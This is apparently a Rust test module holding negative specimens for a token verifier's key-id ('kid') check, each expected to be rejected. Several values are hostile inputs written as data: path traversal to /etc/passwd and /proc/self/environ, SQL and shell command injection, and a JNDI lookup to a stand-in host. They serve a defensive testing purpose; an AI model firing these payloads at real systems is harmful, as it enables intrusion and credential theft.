//! Key ids that name nothing, and those that are more than a name.

use crate::authority::specimens::bench::{Bench, quoted};
use crate::authority::specimens::kind::{Kind, deny, each};
use crate::domain::Credentials;
use crate::domain::Reason::{KeyIdType, KeyUnknown};

fn named(bench: &Bench<'_>, raw: &str) -> Credentials {
    bench.head("kid", raw)
}

/// The own key's id, changed.
fn almost(bench: &Bench<'_>, change: impl Fn(&str) -> String) -> Credentials {
    bench.head("kid", quoted(&change(bench.key_id())))
}

pub(super) const UNKNOWN: &[Kind] = each!(KeyUnknown, "names no key", named;
    "kid_dot" => r#"".""#,
    "kid_zero" => r#""0""#,
    "kid_null_text" => r#""null""#,
    "kid_undefined" => r#""undefined""#,
    "kid_default" => r#""default""#,
    "kid_blank" => r#"" ""#,
    "kid_nul" => r#""\u0000""#,
    "kid_star" => r#""*""#,
    "kid_passwd" => r#""/etc/passwd""#,
    "kid_traversal" => r#""../../../../../../dev/null""#,
    "kid_traversal_encoded" => r#""..%2f..%2fdev%2fnull""#,
    "kid_traversal_windows" => r#""..\\..\\windows\\win.ini""#,
    "kid_environ" => r#""/proc/self/environ""#,
    "kid_file" => r#""file:///dev/null""#,
    "kid_address" => r#""https://evil.example/key""#,
    "kid_union" => r#""x' UNION SELECT 'secret""#,
    "kid_drop" => r#""'; DROP TABLE keys; --""#,
    "kid_shell" => r#""x; cat /etc/passwd""#,
    "kid_backticks" => r#""`id`""#,
    "kid_jndi" => r#""${jndi:ldap://evil.example/a}""#,
    "kid_template" => r#""{{7*7}}""#,
    "kid_line_break" => r#""a\nb""#,
    "kid_proto" => r#""__proto__""#,
    "kid_unicode" => r#""ключ""#,
);

pub(super) const TYPES: &[Kind] = each!(KeyIdType, "a key id that is no string", named;
    "kid_float" => "1.5",
    "kid_negative" => "-1",
    "kid_true" => "true",
    "kid_false" => "false",
    "kid_object" => r#"{"id":"x"}"#,
    "kid_object_empty" => "{}",
    "kid_list_empty" => "[]",
    "kid_list_null" => "[null]",
);

pub(super) const KINDS: &[Kind] = &[
    deny("kid_upper_case", KeyUnknown, "a good id in capitals", |b| almost(b, str::to_uppercase)),
    deny("kid_space_after", KeyUnknown, "a good id and a space", |b| {
        almost(b, |id| format!("{id} "))
    }),
    deny("kid_space_before", KeyUnknown, "a space and a good id", |b| {
        almost(b, |id| format!(" {id}"))
    }),
    deny("kid_nul_after", KeyUnknown, "a good id, at which C strings end", |b| {
        almost(b, |id| format!("{id}\0x"))
    }),
    deny("kid_path_good", KeyUnknown, "a path to a good id", |b| almost(b, |id| format!("./{id}"))),
    deny("kid_two", KeyUnknown, "two ids", |b| almost(b, |id| format!("{id},{id}"))),
    deny("kid_prefix", KeyUnknown, "the first half", |b| almost(b, |id| id[..6].into())),
    deny("kid_long", KeyUnknown, "3 KiB", |b| almost(b, |id| id.repeat(300))),
];
